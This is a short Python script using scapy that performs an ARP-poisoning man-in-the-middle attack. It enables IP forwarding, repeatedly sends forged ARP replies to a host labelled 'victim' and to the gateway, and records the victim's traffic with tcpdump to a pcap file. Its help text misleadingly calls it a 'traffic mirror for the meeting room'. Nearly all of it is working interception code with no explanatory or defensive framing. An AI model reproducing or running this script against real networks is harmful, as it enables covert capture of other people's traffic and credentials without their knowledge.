import argparse
import subprocess
import time

from scapy.all import ARP, Ether, getmacbyip, sendp


def poison(victim, vmac, gateway, gmac, iface):
    sendp(Ether(dst=vmac) / ARP(op=2, psrc=gateway, pdst=victim, hwdst=vmac), iface=iface, verbose=0)
    sendp(Ether(dst=gmac) / ARP(op=2, psrc=victim, pdst=gateway, hwdst=gmac), iface=iface, verbose=0)


if __name__ == "__main__":
    p = argparse.ArgumentParser(description="traffic mirror for the meeting room")
    p.add_argument("--victim", default="192.0.2.30")
    p.add_argument("--gateway", default="192.0.2.1")
    p.add_argument("--iface", default="eth0")
    a = p.parse_args()
    subprocess.run(["sysctl", "-w", "net.ipv4.ip_forward=1"])
    vm, gm = getmacbyip(a.victim), getmacbyip(a.gateway)
    subprocess.Popen(["tcpdump", "-i", a.iface, "-w", "/var/tmp/m.pcap", "host", a.victim])
    while True:
        poison(a.victim, vm, a.gateway, gm, a.iface)
        time.sleep(2)
